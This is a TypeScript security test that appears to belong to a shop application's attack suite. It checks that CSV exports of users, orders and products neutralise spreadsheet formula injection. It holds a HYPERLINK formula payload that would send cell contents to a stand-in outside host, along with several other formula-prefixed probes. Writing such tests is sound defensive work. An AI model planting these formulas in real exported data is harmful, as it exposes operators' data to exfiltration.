import { parse } from 'csv-parse/sync';
import { makeCartOfOneLot } from '../../../support/shops/test-shop-world.ts';
import type { Attack } from '../../attack.ts';
import { makeAttackFindings } from '../../attack-findings.ts';
import { makeImportFolder } from './make-import-folder.ts';

const FORMULA = '=HYPERLINK("https://far.example/?"&A1;"1")';
const TYPED = [FORMULA, '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1'];

/** The attack by what strangers and suppliers write, waiting for the operator to open an export in a spreadsheet. */
export const exportedFormulaAttack: Attack = {
  id: '40',
  title: 'Texts that an exported file would have a spreadsheet run',
  kind: 'own-processes',
  run: async world => {
    const { expect, verdict } = makeAttackFindings();
    const { processes, shop, database } = await world.openShop([{}]);
    const sent = makeImportFolder(world);
    const cellsOf = (csv: string) =>
      parse(csv, { columns: true, record_delimiter: '\n' }) as Readonly<Record<string, string>>[];
    const formulasIn = (csv: string): readonly string[] =>
      cellsOf(csv).flatMap(row => Object.values(row).filter(cell => /^[=+\-@\t\r]/.test(cell)));

    const shopper = await shop.shopper();
    const [was] = await database.query<{ email: string; phone: string }>(
      'SELECT email, phone FROM users WHERE id = $1',
      [shopper.id],
    );
    const profile = { user_id: shopper.id, ...was, gender: null, mailing_participant: false };
    const { status } = await shop.call(
      'auth/user-update',
      { user: { ...profile, first_name: FORMULA, last_name: '+1', address: '@SUM(1)' } },
      shopper,
    );
    await shop.order(shopper, makeCartOfOneLot(await shop.lot()));
    for (const list of ['users', 'orders']) {
      const { out } = await processes.operator(list, 'list', '--format', 'csv');
      const rows = cellsOf(out).length;
      const found = formulasIn(out);
      expect(
        status === 200 && rows > 0 && found.length === 0,
        `${list} list, after an account was given a formula for its name (${status}): ${rows} rows, ${found.length} formulas ${found.join(' ').slice(0, 80)}`,
      );
    }

    const products = TYPED.map((text, index) => ({
      id: 900 + index,
      image: '/p.webp',
      title: { uk: 'a', ru: 'b', en: 'c' },
      description: { uk: text, ru: `'${text}`, en: '' },
    }));
    await processes.operator('import', 'products', sent.file('products.json', JSON.stringify(products)));
    const { out } = await processes.operator('export', 'products');
    const found = formulasIn(out);
    expect(
      out.includes('HYPERLINK') && found.length === 0,
      `export of products with ${TYPED.length} formulas: ${found.length} left ${found.join(' ').slice(0, 80)}`,
    );
    const back = await processes.operator('import', 'products', sent.file('back.csv', out), '--json');
    const { changed, same } = JSON.parse(back.out === '' ? '{}' : back.out) as Record<string, number>;
    expect(
      changed === 0 && (same ?? 0) >= TYPED.length,
      `the export imported again: exit ${back.exit}, ${changed} changed, ${same} the same`,
    );
    return verdict();
  },
};
